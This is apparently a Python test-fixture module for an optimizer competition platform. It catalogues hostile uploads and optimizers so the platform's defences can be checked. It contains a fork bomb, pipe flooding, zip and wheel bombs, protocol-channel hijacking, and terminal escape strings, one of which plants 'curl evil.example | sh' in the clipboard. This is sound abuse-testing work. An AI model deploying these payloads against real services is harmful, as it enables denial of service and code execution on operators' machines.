"""A fixed catalogue of what the worst team would send: hostile uploads (refused at intake) and hostile
optimizers (accepted, then failing or abusing the trusted side while they are scored).

Every entry was a finding of issue 14 on the code before it (quota refunds by crash, the search space not
enforced, an unbounded reply queue, source parsing in the gateway, terminal injection, unbounded logs,
bundled wheels, `--json` broken by the optimizer). `python -m bench abuse` sends them all through the full
path and counts what reached us; the tests reuse the same bytes.
"""

from __future__ import annotations

import base64
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

# -- optimizers ----------------------------------------------------------------------------------------

_HEADER = """\
import fcntl, os, sys, threading, time
import bayesmark.random_search as rs
from bayesmark.abstract_optimizer import AbstractOptimizer
from bayesmark.experiment import experiment_main


def protocol_out():
    # The host keeps a private duplicate of the original stdout for the protocol; a team that reads
    # the host finds it among its descriptors: a pipe open for writing that is not 1 or 2.
    for fd in range(3, 64):
        try:
            flags = fcntl.fcntl(fd, fcntl.F_GETFL)
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith("pipe:") and flags & os.O_ACCMODE == os.O_WRONLY:
            return fd
    raise RuntimeError("no protocol channel found")


def write_all(fd, data):
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view):]


def random_batch(api_config, n):
    return rs.suggest_dict([], [], api_config, n_suggestions=n)
"""

_FOOTER = """

if __name__ == "__main__":
    experiment_main(Optimizer)
"""

# OSC 52 (write the organizer's clipboard), OSC 0 (window title), CSI 2J (clear the screen), a C1 CSI,
# and Rich/Textual markup that crashed tables (`[/]`) or would make a link.
CLIPBOARD_PAYLOAD = base64.b64encode(b"curl evil.example | sh").decode()
TERMINAL_ATTACK = (
    f"\x1b]52;c;{CLIPBOARD_PAYLOAD}\x07\x1b]0;pwned-title\x07\x1b[2J\x9b31m"
    "[/][link=file:///etc/passwd]click[/link][bold red]x"
)


def _source(body: str) -> str:
    return _HEADER + body + _FOOTER


def raw_reply_optimizer(line: bytes, *, in_init: bool = False) -> str:
    """An optimizer that writes `line` itself on the protocol channel, in its constructor (`in_init`) or
    its first suggest, then sleeps so the host never sends a reply of its own."""
    return _source(
        f"""
LINE = {line!r}


class Optimizer(AbstractOptimizer):
    def __init__(self, api_config, **kwargs):
        AbstractOptimizer.__init__(self, api_config)
        if {in_init!r}:
            write_all(protocol_out(), LINE)
            time.sleep(60)

    def suggest(self, n_suggestions=1):
        write_all(protocol_out(), LINE)
        time.sleep(60)

    def observe(self, X, y):
        pass
"""
    )


OPTIMIZERS: dict[str, str] = {
    # The reference: what a well-behaved submission costs the worker.
    "well_behaved": _source(
        """
class Optimizer(AbstractOptimizer):
    def suggest(self, n_suggestions=1):
        return random_batch(self.api_config, n_suggestions)

    def observe(self, X, y):
        pass
"""
    ),
    # Finding 3: unsolicited 4 MiB lines on the protocol channel, as fast as the pipe takes them.
    "flood": _source(
        """
LINE = b'{"ok": true, "op": "suggest", "X": "' + b"x" * (4 * 1024 * 1024 - 40) + b'"}\\n'


def flood():
    time.sleep(0.5)
    try:
        fd = protocol_out()
        while True:
            write_all(fd, LINE)
    except OSError:
        pass


threading.Thread(target=flood, daemon=True).start()


class Optimizer(AbstractOptimizer):
    def suggest(self, n_suggestions=1):
        time.sleep(0.2)
        return random_batch(self.api_config, n_suggestions)

    def observe(self, X, y):
        pass
"""
    ),
    # Finding 2: ~37k in-range values per parameter (about 4 MB a reply), each value "in range".
    "huge_suggestion": _source(
        """
class Optimizer(AbstractOptimizer):
    def suggest(self, n_suggestions=1):
        batch = random_batch(self.api_config, n_suggestions)
        out = []
        for point in batch:
            grown = {}
            for name, value in point.items():
                numeric = self.api_config[name]["type"] in ("int", "real")
                grown[name] = [value] * (37_000 // max(1, n_suggestions)) if numeric else value
            out.append(grown)
        return out

    def observe(self, X, y):
        pass
"""
    ),
    # Finding 2: a list, a string, a boolean and a non-integral float where an int is declared.
    "off_space": _source(
        """
class Optimizer(AbstractOptimizer):
    def suggest(self, n_suggestions=1):
        batch = random_batch(self.api_config, n_suggestions)
        for point in batch:
            for name in point:
                if self.api_config[name]["type"] == "int":
                    point[name] = [point[name]] * 3
        return batch

    def observe(self, X, y):
        pass
"""
    ),
    # Finding 1: replies that crashed the decoder or the harness (RecursionError, ValueError,
    # AttributeError) and were refunded as infrastructure.
    "nested_reply": raw_reply_optimizer(
        b'{"ok":true,"op":"suggest","X":' + b"[" * 100_000 + b"]" * 100_000 + b"}\n"
    ),
    "long_number": raw_reply_optimizer(b'{"ok":true,"op":"suggest","X":[{"x":1' + b"1" * 5000 + b"}]}\n"),
    "bad_error_shape": raw_reply_optimizer(
        b'{"ok":false,"op":"init","error":{"message":{"a":[1]}}}\n', in_init=True
    ),
    # Finding 5: terminal escapes and markup in stderr (the organizer log) while it scores normally.
    "terminal_chatter": _source(
        f"""
ATTACK = {TERMINAL_ATTACK!r}


class Optimizer(AbstractOptimizer):
    def suggest(self, n_suggestions=1):
        sys.stderr.write(ATTACK + "\\n")
        sys.stderr.flush()
        return random_batch(self.api_config, n_suggestions)

    def observe(self, X, y):
        raise ValueError(ATTACK)
"""
    ),
    # Finding 5 and 6: a constructor failing with an escape-laden, 100 kB message (the failure message).
    "terminal_crash": _source(
        f"""
ATTACK = {TERMINAL_ATTACK!r}


class Optimizer(AbstractOptimizer):
    def __init__(self, api_config, **kwargs):
        raise RuntimeError(ATTACK * 1000)

    def suggest(self, n_suggestions=1):
        return random_batch(self.api_config, n_suggestions)

    def observe(self, X, y):
        pass
"""
    ),
    # Finding 8: a fork bomb; under shared limits it made other teams' sandboxes fail to start.
    "fork_bomb": _source(
        """
class Optimizer(AbstractOptimizer):
    def suggest(self, n_suggestions=1):
        children = []
        try:
            while True:
                pid = os.fork()
                if pid == 0:
                    time.sleep(60)
                    os._exit(0)
                children.append(pid)
        except OSError:
            time.sleep(0.5)
        return random_batch(self.api_config, n_suggestions)

    def observe(self, X, y):
        pass
"""
    ),
}

# What each optimizer must end as: (state, failure cause or None). The hostile ones are all charged.
EXPECTED_OUTCOME: dict[str, tuple[str, str | None]] = {
    "well_behaved": ("scored", None),
    "flood": ("failed", "optimizer_crashed"),
    "huge_suggestion": ("failed", "optimizer_crashed"),
    "off_space": ("failed", "optimizer_crashed"),
    "nested_reply": ("failed", "optimizer_crashed"),
    "long_number": ("failed", "optimizer_crashed"),
    "bad_error_shape": ("failed", "optimizer_crashed"),
    "terminal_chatter": ("scored", None),
    "terminal_crash": ("failed", "optimizer_crashed"),
    "fork_bomb": ("scored", None),  # contained: its own studies may be cut short, nobody else's
}
FLOODS = ("flood", "huge_suggestion", "terminal_chatter")


def optimizer_zip(name: str) -> bytes:
    return zip_of({"optimizer.py": OPTIMIZERS[name]})


# -- uploads -------------------------------------------------------------------------------------------


def zip_of(files: dict[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=compression)
    return buffer.getvalue()


def _wheel(name: str, files: dict[str, bytes | str]) -> bytes:
    dist = f"{name}-1.0.dist-info"
    meta = {
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: bench\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{dist}/RECORD": "",
    }
    return zip_of({**files, **meta})


GOOD = OPTIMIZERS["well_behaved"]


@dataclass(frozen=True)
class Upload:
    name: str
    build: Callable[[], bytes]
    finding: str


UPLOADS: tuple[Upload, ...] = (
    Upload("long_entry_name", lambda: zip_of({"optimizer.py": GOOD, "a" * 300: "x"}), "1"),
    Upload("file_and_folder", lambda: zip_of({"optimizer.py": GOOD, "pkg": "f", "pkg/m.py": "x"}), "1"),
    Upload("dot_entry", lambda: zip_of({"optimizer.py": GOOD, ".": "x"}), "1"),
    # 1.9 MiB of source, 0.3 MiB zipped: ast.parse took 13 s and +1.3 GiB in the gateway.
    Upload(
        "huge_source",
        lambda: zip_of(
            {"optimizer.py": GOOD + "".join(f"v{i} = ({i}, [{i}, {{'k': {i}}}])\n" for i in range(60_000))}
        ),
        "4",
    ),
    # `x=` then 200,000 minus signs: MemoryError in the parser, a 500.
    Upload("unary_chain", lambda: zip_of({"optimizer.py": "x=" + "-" * 200_000 + "1\n"}), "4"),
    Upload("zip_bomb", lambda: zip_of({"optimizer.py": GOOD, "bomb.bin": b"\0" * (300 * 1024 * 1024)}), "4"),
    Upload(
        "many_entries",
        lambda: zip_of({"optimizer.py": GOOD, **{f"d/{i}": "" for i in range(60_000)}}, zipfile.ZIP_STORED),
        "11",
    ),
    Upload(
        "sdist_requirement",
        lambda: zip_of(
            {
                "optimizer.py": GOOD,
                "requirements.txt": "evil==1.0\n",
                "evil-1.0.tar.gz": b"\x1f\x8b" + b"0" * 64,
            }
        ),
        "7",
    ),
    Upload(
        "path_requirement",
        lambda: zip_of(
            {"optimizer.py": GOOD, "requirements.txt": "./evil\n", "evil/setup.py": "open('/x','w')"}
        ),
        "7",
    ),
    Upload(
        "wheel_bomb",
        lambda: zip_of(
            {
                "optimizer.py": GOOD,
                "requirements.txt": "bomb==1.0\n",
                "bomb-1.0-py3-none-any.whl": _wheel("bomb", {"bomb/data.bin": b"\0" * (200 * 1024 * 1024)}),
            }
        ),
        "7",
    ),
)
